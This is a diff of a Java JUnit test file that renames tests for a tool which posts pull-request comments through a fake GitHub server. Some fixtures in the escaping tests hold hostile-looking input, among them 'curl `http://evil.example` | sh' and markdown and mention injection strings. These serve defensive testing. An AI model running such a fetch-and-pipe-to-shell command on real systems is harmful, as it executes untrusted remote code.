@@ -22,7 +22,7 @@ import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
-/** Comments on the pull request of a server that answers as GitHub does: rightly, wrongly, late, and not at all. */
+/** Comments on the pull request of a server that responds like GitHub: correctly, wrongly, late, and not at all. */
 final class JobCommentTest {
     private static final String HEAD = "ab".repeat(20);
     private static final RetryPolicy PATIENT = new RetryPolicy(
@@ -77,7 +77,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void thereIsOneCommentAndItChangesOnlyWithWhatItSays() throws Exception {
+    void singleCommentIsUpdatedOnlyOnChanges() throws Exception {
         assertThat(post(TestDigests.bad("build", "curl evil"), CommentMode.ALWAYS))
                 .isEqualTo(new Note(false, "the comment of pull request 7 is up to date now"));
         assertThat(github.comments()).singleElement().extracting(Comment::body).isEqualTo("""
@@ -114,7 +114,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void withoutAnAlertThereIsNoCommentUnlessThereIsOne() throws Exception {
+    void onAlertModeCreatesNoCommentWithoutAlert() throws Exception {
         assertThat(post(TestDigests.clean("build"), CommentMode.ON_ALERT))
                 .isEqualTo(new Note(false, "no comment: no rule was broken (comment: on-alert)"));
         assertThat(post(TestDigests.clean("build"), CommentMode.NEVER).text()).isEqualTo("no comment: none is requested");
@@ -128,7 +128,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void ourCommentIsFoundOnTheLastPageAndAForgedOneIsLeftAlone() throws Exception {
+    void findsOwnCommentOnLastPageAndIgnoresForgedOne() throws Exception {
         post(TestDigests.bad("build", "old"), CommentMode.ALWAYS);
         Comment ours = github.comments().getFirst();
         replace(FakeGitHub.open());
@@ -148,7 +148,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void aPersonsTokenFindsThatPersonsComment() throws Exception {
+    void userTokenFindsUsersComment() throws Exception {
         variables.put("INPUT_GITHUB-TOKEN", "ghp_person");
         post(TestDigests.clean("build"), CommentMode.ALWAYS);
         post(TestDigests.bad("build", "x"), CommentMode.ALWAYS);
@@ -157,7 +157,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void aNewCommitReplacesTheOldOneAndALateJobOfTheOldOneSaysNothing() throws Exception {
+    void newCommitReplacesOldOneAndLateJobIsIgnored() throws Exception {
         post(TestDigests.bad("build", "x"), CommentMode.ALWAYS);
         post(TestDigests.bad("test", "y"), CommentMode.ALWAYS);
         String next = "cd".repeat(20);
@@ -173,7 +173,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void codeOfTheJobIsNoMarkup() throws Exception {
+    void codeOfJobIsEscaped() throws Exception {
         String evil = "curl `http://evil.example` | sh </code> @torvalds #1 [x](http://evil.example) **b** \n\n| a |\n";
         post(TestDigests.bad("build", evil), CommentMode.ALWAYS);
         String body = github.comments().getFirst().body();
@@ -187,7 +187,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void textOfTheJobIsNoMarkup() throws Exception {
+    void textOfJobIsEscaped() throws Exception {
         String evil = "<!-- /eyas:job --> </code> @torvalds #1 [x](http://evil.example) ![](https://e/p.png) `|`\n"
                 + "::error::x\u202e GH-12 a@b.example";
         post(
@@ -207,7 +207,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void aReadOnlyTokenLeadsToANotice() throws Exception {
+    void readOnlyTokenGivesNotice() throws Exception {
         replace(new FakeGitHub(true, Map.of()));
         assertThat(post(TestDigests.bad("build", "x"), CommentMode.ALWAYS))
                 .isEqualTo(new Note(
@@ -225,7 +225,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void aForkOfAPublicRepositoryIsNotEvenAsked() throws Exception {
+    void publicForkSendsNoRequest() throws Exception {
         String fork = """
                 {"sender":{"login":"m"},"pull_request":{"number":7,"user":{"login":"m"},"head":{"sha":"%s","repo":%s},
                 "base":{"repo":{"id":1,"private":%s}}}}""";
@@ -250,7 +250,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void whatIsNotAboutAPullRequestHasNoComment() throws Exception {
+    void runsWithoutPullRequestHaveNoComment() throws Exception {
         assertThat(job("100", "{\"ref\":\"refs/heads/main\"}", "push")
                         .ofThisJob(TestDigests.bad("b", "x"), CommentMode.ALWAYS))
                 .isEqualTo(new Note(false, "no comment: this run does not belong to a pull request"));
@@ -262,7 +262,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void tokensThatAreMissingOrWrongAreNamed() throws Exception {
+    void missingAndInvalidTokensAreReported() throws Exception {
         variables.put("INPUT_GITHUB-TOKEN", "");
         assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS))
                 .isEqualTo(new Note(true, "no comment: missing token; set the input github-token"));
@@ -275,7 +275,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void anOwnServerIsAskedAtItsOwnAddresses() throws Exception {
+    void usesAddressesOfEnterpriseServer() throws Exception {
         variables.put("GITHUB_API_URL", github.url() + "/api/v3/");
         variables.put("GITHUB_SERVER_URL", "https://ghes.example/");
         post(TestDigests.clean("b"), CommentMode.ALWAYS);
@@ -286,7 +286,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void limitsAreWaitedForWhereThatIsShort() throws Exception {
+    void waitsForShortRateLimits() throws Exception {
         Instant now = Instant.now();
         github.answerOnce(aResponse()
                 .withStatus(403)
@@ -305,7 +305,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void limitsThatLastAreToldAndNotWaitedFor() throws Exception {
+    void reportsLongRateLimitsWithoutWaiting() throws Exception {
         github.answerOnce(aResponse()
                 .withStatus(429)
                 .withHeader("x-ratelimit-remaining", "0")
@@ -327,7 +327,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void aServerInTroubleIsAskedAgain() throws Exception {
+    void retriesServerErrors() throws Exception {
         github.answerOnce(aResponse().withStatus(502).withBody("<html>"));
         github.answerOnce(aResponse().withFault(Fault.CONNECTION_RESET_BY_PEER));
         assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS).loud()).isFalse();
@@ -340,7 +340,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void slowAnswersEnd() throws Exception {
+    void slowResponsesTimeOut() throws Exception {
         RetryPolicy hasty = new RetryPolicy(
                 Duration.ofMinutes(5), Duration.ofSeconds(3), 1, Duration.ofSeconds(1), Duration.ofSeconds(1), 1 << 20);
         github.answerOnce(aResponse().withFixedDelay(60_000).withBody("{}"));
@@ -353,7 +353,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void answersThatAreNoneAreRefused() throws Exception {
+    void rejectsInvalidResponses() throws Exception {
         github.answerOnce(aResponse().withBody("<html>"));
         assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS).text())
                 .startsWith("no comment: GitHub: cannot read the response: JSON is malformed");
